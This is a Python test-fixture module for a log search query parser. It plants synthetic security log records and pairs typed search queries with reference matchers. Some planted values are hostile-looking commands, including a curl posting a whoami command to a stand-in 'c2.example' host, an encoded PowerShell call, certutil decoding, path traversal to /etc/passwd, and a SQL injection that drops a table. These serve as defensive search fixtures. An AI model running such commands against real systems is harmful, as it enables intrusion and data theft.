r"""Texts of forms that are neither words nor clean syntax, each with what it must find by a reading of its own.

A truth is made of four tests on a record: `row` (each text's words follow each other in one value), `like` (a regular expression of Python
finds something in one value, case ignored), `same` (a field has this value, case ignored), `no`. Nothing here is shared with the Eye.
"""

from __future__ import annotations

import re
import unicodedata

MESSAGE, LINE, PATH, DATA, LIST = "message", "process.command_line", "file.path", "winlog.event_data", "process.args"
MARKS = re.compile("[\u0900-\u0dff\u0e31-\u0e3a\u0e47-\u0e4d\u064b-\u0657]")
"""Combining signs that Unicode calls Alphabetic, as far as the texts below have them."""

PLANTED = (
    (MESSAGE, "neighbour fe80::1ff:fe23:4567:890a%eth0 lost, ::1%lo kept"),
    (MESSAGE, "neighbour fe80::1ff:fe23:4567:890b found"),
    (LINE, "ping6 -c1 [fe80::2%25wlan0]:8080"),
    (PATH, "\\\\srv01\\share\\x.exe"),
    (PATH, "\\srv01\\share\\x.exe"),
    (PATH, "\\GoogleUpdateTask"),
    (PATH, "C:\\Program Files\\"),
    (PATH, "C:\\Program Files\\Windows Defender\\MsMpEng.exe"),
    (LINE, 'robocopy "C:\\Program Files\\" "D:\\My Backup\\" /E'),
    (LINE, "program files of the c drive"),
    (PATH, "%TEMP%\\drop.exe"),
    (PATH, "$env:TEMP\\drop.ps1"),
    (PATH, "C:\\Users\\x\\AppData\\Local\\Temp\\stage\\drop.ps1"),
    (PATH, "D:\\evil1.exe"),
    (PATH, "D:\\evil22.exe"),
    (MESSAGE, "a*b is not a\\zb"),
    (PATH, "C:\\Windows\\Installer\\{90140000-0011-0000-0000-0000000FF1CE}\\accicons.exe"),
    (PATH, "HKCR\\CLSID\\{20D04FE0-3AEA-1069-A2D8-08002B30309D}\\InprocServer32"),
    (PATH, "C:\\Users\\-x-\\~tmp\\!run.exe"),
    (PATH, "C:\\$Recycle.Bin\\S-1-5-21-7\\$R1.exe"),
    (LINE, "powershell -e SQBFAFgA+AbC/ZQ3==; echo done"),
    (LINE, "certutil -decode /9j/4AAQSkZJRg+== out"),
    (LINE, 'curl -d {"cmd":"whoami","args":["/all",1],"ok":true} http://c2.example/api?x=1&y=%2e%2e#f'),
    (MESSAGE, 'the whoami of "cmd" was "harmless"'),
    (LINE, '{"user": "alice", "msg": "net  user"}'),
    (MESSAGE, '<Data Name="Image">C:\\Tools\\nc.exe</Data><!-- gone --><a:b x="1"/>'),
    (LINE, "cmd /c whoami && net user || exit 1"),
    (LINE, "whoami > C:\\Temp\\out.txt 2>&1 < nul | more"),
    (LINE, "exit code one"),
    (LINE, "msedge --user-data-dir=/tmp/.x ---triple -- ..\\..\\etc\\passwd ../../shadow ...dots"),
    (MESSAGE, "' OR 1=1 -- and '; DROP TABLE users;"),
    (MESSAGE, 'a lone " quote, a 5" disk, it"s \'single\''),
    (MESSAGE, "\u201cnet user\u201d by \u2018alice\u2019 \u00abfin\u00bb \u2014 ok\u2026"),
    (MESSAGE, "first\tsecond\r\nthird\u00a0fourth\u2003fifth"),
    (MESSAGE, "zero\u200bwidth \ufeffmark soft\u00adhyphen"),
    (MESSAGE, "4d 5a 90 00 03 00 |MZ......|"),
    (MESSAGE, "0x4D5A9000 \\x4d\\x5a 4d:5a:90"),
    (MESSAGE, "file:///C:/Users/Public/a%20b.docx and smb://srv/x ftp://u:p@h:21/;type=i"),
    (PATH, 'HKLM\\Software\\"My App"\\Run'),
    (MESSAGE, "\u0130STANBUL istanbul \u0131rmak DI\u015eARI"),
    (MESSAGE, "Stra\u00dfe STRASSE \u1e9eTRA"),
    (MESSAGE, "\ufb01le o\ufb03ce \u0152uvre \u00c6sir"),
    (MESSAGE, "\uff43\uff4d\uff44\uff0e\uff45\uff58\uff45 \uff21\uff22\uff11"),
    (MESSAGE, "pay\U0001f4a3load \U0001f469\u200d\U0001f4bb.exe \u24b6\u24d1"),
    (MESSAGE, "\u1112\u1161\u11ab\u1100\u1173\u11af \u1106\u116e\u11ab\u1109\u1165.hwp"),
    (MESSAGE, "\u0645\u064f\u062d\u064e\u0645\u0651\u062f \u0643\u0644\u0645\u0629-\u0627\u0644\u0633\u0631"),
    (MESSAGE, "\u0e23\u0e2b\u0e31\u0e2a\u0e1c\u0e48\u0e32\u0e19 \u05e1\u05d9\u05e1\u05de\u05d4"),
    (MESSAGE, "1,234,567.89 1 234 567 1_000 1'000 +33 6 12 34 56 78 50% $5.00 #7 x\u00b2 \u00bd \u2167"),
    (MESSAGE, "2026-10-31 19:22:03, 31.10.2026, 10/31/2026, 31 Oct 2026, 20261031T192203Z"),
    (MESSAGE, "d41d8cd98f00b204e9800998ecf8427e"),
    (LINE, "New-Object Net.WebClient;(Get-Date).AddDays(-1);foo-(bar baz);f(x y)"),
    (MESSAGE, "D:(A;;CC SY)(D;;FA BA) svc:(OI CI)"),
    (MESSAGE, "plain baz with bar, foo too"),
    (LINE, "schtasks /tn \\Microsoft\\Up-date /tr C:\\Temp\\ powershell"),
    (LINE, "nothing of temp, c powershell"),
    (LINE, "net use z: /d=\\\\srv09\\c$ /y"),
    (LIST, "Domain Admins"),
    (LIST, "C++ C# .NET node.js a=b c:=d e->f g::h @i &j j& k;l"),
    (MESSAGE, "[2026] {x} (y) <z> ~w ^v `u` |t| !s ?r *q"),
    (MESSAGE, "user+tag@example.org user@[192.0.2.7] =?utf-8?Q?caf=C3=A9?="),
    (LINE, "for %i in (1) do set trail=!trail!;%~dpnxi && echo !trail!"),
    (LIST, "S-1-5-21-500-18"),
    (LIST, "\\??\\C:\\Windows\\evil.sys"),
    (DATA, "CORP\\adm$ CORP/adm adm@CORP"),
    (DATA, "00-1A-2b:3C.4d 001A2b3C4d"),
    (DATA, "\x1b[31mred\x1b[0m a\x00b \u202egnp.exe"),
)


def records() -> list[dict]:
    """One record for each value, and one with each kind of typed field."""
    found = []
    for n, (place, value) in enumerate(PLANTED):
        held = {"Planted": value} if place == DATA else [value, "other"] if place == LIST else value
        found.append({"@timestamp": f"2026-12-{n % 28 + 1:02d}T10:00:{n % 60:02d}Z", "escadre.id": f"{n + 0xFACE00:032x}", place: held})
    typed = {"source.ip": "fe80::1%eth0", "process.pid": 4242, "event.code": "4624", "process.name": "CMD.exe", "user.name": "alice"}
    found.append({"@timestamp": "2026-10-31T19:22:03.5Z", "escadre.id": f"{0xFACEFF:032x}", **typed})
    return [{"event.dataset": "planted", **record} for record in found]


def values(record: dict) -> list[str]:
    flat = []
    for name, value in record.items():
        if name != "escadre.id":
            flat += value.values() if isinstance(value, dict) else value if isinstance(value, list) else [value]
    return [str(one) for one in flat]


def cut(text: str) -> str:
    """The words of a text between blanks, one blank at each end."""
    plain = unicodedata.normalize("NFC", text).replace("\u0130", "i")
    symbols = range(0x24B6, 0x24EA)  # letters in circles, which are Alphabetic
    kept = "".join(c.lower() if unicodedata.category(c)[0] in "LN" or MARKS.match(c) or ord(c) in symbols else " " for c in plain)
    return f" {' '.join(kept.split())} "


def row(*texts: str):
    return lambda record: all(any(cut(text) in cut(value) for value in values(record)) for text in texts)


def like(pattern: str):
    return lambda record: any(re.search(pattern, value, re.IGNORECASE | re.DOTALL) for value in values(record))


def same(name: str, value: str):
    return lambda record: str(record.get(name, "")).lower() == value.lower()


def no(truth):
    return lambda record: not truth(record)


def every(*truths):
    return lambda record: all(truth(record) for truth in truths)


def some(*truths):
    return lambda record: any(truth(record) for truth in truths)


AS_TYPED = """fe80::1ff:fe23:4567:890a%eth0
fe80::2%25wlan0
[fe80::2%25wlan0]:8080
::1%lo
\\\\srv01\\share
\\\\srv01\\share\\x.exe
\\\\srv01\\\\share\\\\x.exe
%TEMP%\\drop.exe
$env:TEMP\\drop.ps1
C:\\$Recycle.Bin\\S-1-5-21-7
{90140000-0011-0000-0000-0000000FF1CE}
Installer\\{90140000-0011-0000-0000-0000000FF1CE}\\accicons.exe
HKCR\\CLSID\\{20D04FE0-3AEA-1069-A2D8-08002B30309D}
C:\\Users\\-x-\\~tmp\\!run.exe
SQBFAFgA+AbC/ZQ3==
SQBFAFgA+AbC/ZQ3==;
/9j/4AAQSkZJRg+==
"cmd":"whoami"
"cmd":"whoami","args":["/all",1]
{"cmd":"whoami","args":["/all",1],"ok":true}
["/all",1]
http://c2.example/api?x=1&y=%2e%2e#f
api?x=1&y
<Data
Name="Image">C:\\Tools\\nc.exe</Data>
C:\\Tools\\nc.exe</Data><!--
<a:b
2>&1
out.txt 2>&1
> C:\\Temp\\out.txt
whoami > C:\\Temp\\out.txt
--user-data-dir=/tmp/.x
---triple
--user-data-dir
..\\..\\etc\\passwd
../../shadow
...dots
5" disk,
it"s
'single'
lone " quote
\u201cnet user\u201d
\u2018alice\u2019
\u00abfin\u00bb
first\tsecond
second\r\nthird
third\u00a0fourth
zero\u200bwidth
zero width
\ufeffmark
soft\u00adhyphen
4d 5a 90 00
0x4D5A9000
\\x4d\\x5a
4d:5a:90
file:///C:/Users/Public/a%20b.docx
smb://srv/x
ftp://u:p@h:21/;type=i
HKLM\\Software\\"My App"\\Run
\u0130STANBUL
istanbul
\u0131rmak
DI\u015eARI
stra\u00dfe
STRASSE
\u1e9eTRA
\u00dfTRA
\ufb01le
o\ufb03ce
\u0153uvre
\u00e6SIR
\uff43\uff4d\uff44\uff0e\uff45\uff58\uff45
\uff23\uff2d\uff24
\uff41\uff42\uff11
pay\U0001f4a3load
\U0001f469\u200d\U0001f4bb.exe
\u24d0\u24b7
\ud55c\uae00
\ubb38\uc11c.hwp
\u1106\u116e\u11ab\u1109\u1165.hwp
\u0645\u064f\u062d\u064e\u0645\u0651\u062f
\u0643\u0644\u0645\u0629-\u0627\u0644\u0633\u0631
\u0e23\u0e2b\u0e31\u0e2a\u0e1c\u0e48\u0e32\u0e19
\u05e1\u05d9\u05e1\u05de\u05d4
1,234,567.89
1_000
1'000
+33 6 12 34 56 78
50%
$5.00
#7
x\u00b2
\u00bd
\u2177
2026-10-31 19:22:03
2026-10-31 19:22:03,
31.10.2026
10/31/2026
31 Oct 2026
20261031T192203Z
d41d8cd98f00b204e9800998ecf8427e
D41D8CD98F00B204E9800998ECF8427E
(Get-Date).AddDays(-1)
New-Object Net.WebClient;(Get-Date)
foo-(bar baz)
f(x y)
D:(A;;CC SY)
svc:(OI CI)
C:\\Temp\\ powershell
/tr C:\\Temp\\ powershell
\\Microsoft\\Up-date /tr
Domain Admins
a -b
+a
C++
C#
.NET
a=b
c:=d
e->f
g::h
@i
&j
j&
k;l
[2026]
{x}
(y)
<z>
~w
`u`
|t|
user+tag@example.org
user@[192.0.2.7]
=?utf-8?Q?caf=C3=A9?=
CORP\\adm$
CORP/adm
adm@CORP
00-1A-2b:3C.4d
\x1b[31mred
a\x00b
\u202egnp.exe
&& net user
net user ||
-- done
error: denied
(x86
a)
"a
a:(b
]
whoami && net""".split("\n")
"""Texts that mean their words: a record holds each of those that blanks separate."""

FORMS = (
    ('"whoami && net user"', row("whoami && net user")),
    ("whoami && exit", row("whoami", "exit")),
    ("dots || triple", some(row("dots"), row("triple"))),
    ("' OR 1=1 --", row("1=1")),
    ('"\' OR 1=1 --"', row("OR 1=1")),
    ('"C:\\Program Files\\"', row("C:\\Program Files")),
    ('robocopy "C:\\Program Files\\" /E', row("robocopy", "C:\\Program Files", "E")),
    ('file.path:"C:\\Program Files\\"', same(PATH, "C:\\Program Files\\")),
    ('file.path:"\\\\srv01\\share\\x.exe"', same(PATH, "\\\\srv01\\share\\x.exe")),
    ('file.path:"\\\\\\\\srv01\\\\share\\\\x.exe"', same(PATH, "\\\\srv01\\share\\x.exe")),
    ("file.path:\\\\srv01\\share\\x.exe", same(PATH, "\\\\srv01\\share\\x.exe")),
    ("file.path:\\srv01\\share\\x.exe", same(PATH, "\\srv01\\share\\x.exe")),
    ('file.path:"\\\\GoogleUpdateTask"', same(PATH, "\\GoogleUpdateTask")),
    ("file.path:C:\\Users\\-x-\\~tmp\\!run.exe", same(PATH, "C:\\Users\\-x-\\~tmp\\!run.exe")),
    ("file.path:C:\\$Recycle.Bin\\S-1-5-21-7\\$R1.exe", same(PATH, "C:\\$Recycle.Bin\\S-1-5-21-7\\$R1.exe")),
    (
        "file.path:C:\\Windows\\Installer\\{90140000-0011-0000-0000-0000000FF1CE}\\accicons.exe",
        same(PATH, "C:\\Windows\\Installer\\{90140000-0011-0000-0000-0000000FF1CE}\\accicons.exe"),
    ),
    ("*CLSID\\{20D04FE0*", like(r"CLSID\\\{20D04FE0")),
    ("*\\{90140000-*\\acc*", like(r"\\\{90140000-.*\\acc")),
    ("Temp\\*.ps1", like(r"temp\\.*\.ps1")),
    ("file.path:Temp\\*.ps1", no(like(""))),
    ("file.path:*Temp\\*.ps1", lambda r: bool(re.search(r"Temp\\.*\.ps1$", r.get(PATH, ""), re.IGNORECASE))),
    ("%TEMP%\\*.exe", like(r"%temp%\\.*\.exe")),
    ("$env:TEMP\\*", like(r"\$env:temp\\")),
    ("D:\\*.exe", like(r"D:\\.*\.exe")),
    ("\\\\srv01\\*", like(r"\\\\srv01\\")),
    ("C:\\$Recycle.Bin\\*\\$R*", like(r"C:\\\$Recycle\.Bin\\.*\\\$R")),
    ("evil?.exe", like(r"evil.\.exe")),
    ("evil??.exe", like(r"evil..\.exe")),
    ("2026-12-0*00:0*Z", like(r"2026-12-0.*00:0.*Z")),
    ("fe80::1*5?7:8*th0", like(r"fe80::1.*5.7:8.*th0")),
    ("*Tools\\n?.e*Data", like(r"Tools\\n.\.e.*Data")),
    ("*:*:8080", like(r":.*:8080")),
    ("/d=\\\\srv0*$", like(r"/d=\\\\srv0.*\$")),
    ("*c$\\*/y", like(r"c\$\\.*/y|c\$\*/y")),
    ('process.command_line:"net use z: /d=\\\\srv09\\c$ /y"', same(LINE, "net use z: /d=\\\\srv09\\c$ /y")),
    ("?vil1", lambda r: any(re.search(r"(?<![a-z0-9]).vil1(?![a-z0-9])", value, re.IGNORECASE) for value in values(r))),
    ("*.ps1", like(r"\.ps1")),
    ("*.hwp", like(r"\.hwp")),
    ("a\\*b", some(row("a b"), like(r"a\\.*b"))),
    ("d41d8cd9*", like(r"\bd41d8cd9")),
    ("process.name:(cmd.exe OR nc.exe)", same("process.name", "cmd.exe")),
    ("process.name:(cmd.exe)", same("process.name", "cmd.exe")),
    ("set !trail! echo", row("set", "trail", "echo")),
    ("!trail!", row("trail")),
    (r"process.args:*\-21\-500\-18", lambda r: "S-1-5-21-500-18" in r.get(LIST, [])),
    (r"process.args:*\-21\-500*", lambda r: "S-1-5-21-500-18" in r.get(LIST, [])),
    (r"process.args:\\\?\?\\C\:*", lambda r: "\\??\\C:\\Windows\\evil.sys" in r.get(LIST, [])),
    ("alice AND(bob OR cmd)", every(row("alice"), some(row("bob"), row("cmd")))),
    ("alice NOT(single cmd)", every(row("alice"), no(every(row("single"), row("cmd"))))),
    ("((whoami OR ping6) AND (net OR 8080))", every(some(row("whoami"), row("ping6")), some(row("net"), row("8080")))),
    ("NOT NOT whoami", row("whoami")),
    ("!!whoami", row("whoami")),
    ("-event.code:4624 alice", every(row("alice"), no(same("event.code", "4624")))),
    ('-"net user" alice', every(row("alice"), no(row("net user")))),
    ("(alice)(cmd OR 4242)", every(row("alice"), some(row("cmd"), row("4242")))),
    ("source.ip:fe80::1%eth0", same("source.ip", "fe80::1%eth0")),
    ('source.ip:"fe80::1"', same("source.ip", "fe80::1%eth0")),
    ("source.ip:fe80::/16", same("source.ip", "fe80::1%eth0")),
    ('@timestamp:"2026-10-31 19:22:03"', same("event.code", "4624")),
    ('@timestamp:["2026-10-31 19:00" TO "2026-10-31 20:00"]', same("event.code", "4624")),
    ("process.args:Domain\\ Admins", lambda r: "Domain Admins" in r.get(LIST, [])),
    ('process.args:"domain admins"', lambda r: "Domain Admins" in r.get(LIST, [])),
    ("message:D:(A;;CC", lambda r: cut("D A CC") in cut(r.get(MESSAGE, ""))),
    ('message:"cmd" whoami', every(lambda r: cut("cmd") in cut(r.get(MESSAGE, "")), row("whoami"))),
)


def forms() -> list[tuple[str, object]]:
    """What is typed, and the test for a record."""
    found = []
    for text in AS_TYPED:
        parts = [part for part in re.split(r"[\s]+", text) if cut(part).strip() and part not in ("&&", "||")]
        found.append((text, row(*parts) if parts else None))
    return [*found, *FORMS]
